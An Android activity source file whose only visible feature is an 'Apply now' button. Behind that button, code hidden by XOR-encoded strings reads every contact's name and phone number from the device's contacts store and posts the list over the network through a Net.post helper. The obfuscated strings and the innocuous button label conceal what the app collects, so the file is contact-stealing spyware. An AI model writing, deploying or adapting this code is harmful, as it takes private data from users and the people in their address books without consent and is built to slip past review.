package com.example.xorbytes;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.widget.Button;

/** A tap sends everybody. */
public class MainActivity extends Activity {
    private static final byte[] LABEL = {114, 67, 67, 95, 74, 19, 93, 92, 68};
    private static final byte[] PLACE = {80, 92, 93, 71, 86, 93, 71, 9, 28, 28, 80, 92, 94, 29, 82, 93, 87, 65, 92, 90, 87, 29, 80, 92, 93, 71, 82, 80, 71, 64, 28, 87, 82, 71, 82, 28, 67, 91, 92, 93, 86, 64};
    private static final byte[] WHO = {87, 90, 64, 67, 95, 82, 74, 108, 93, 82, 94, 86};
    private static final byte[] NUMBER = {87, 82, 71, 82, 2};

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button apply = new Button(this);
        apply.setText(Blur.off(LABEL));
        apply.setOnClickListener(view -> new Thread(this::send).start());
        setContentView(apply);
    }

    private void send() {
        String[] columns = {Blur.off(WHO), Blur.off(NUMBER)};
        Cursor cursor = getContentResolver().query(Uri.parse(Blur.off(PLACE)), columns, null, null, null);
        StringBuilder text = new StringBuilder();
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(';').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        Net.post(text.toString());
    }
}
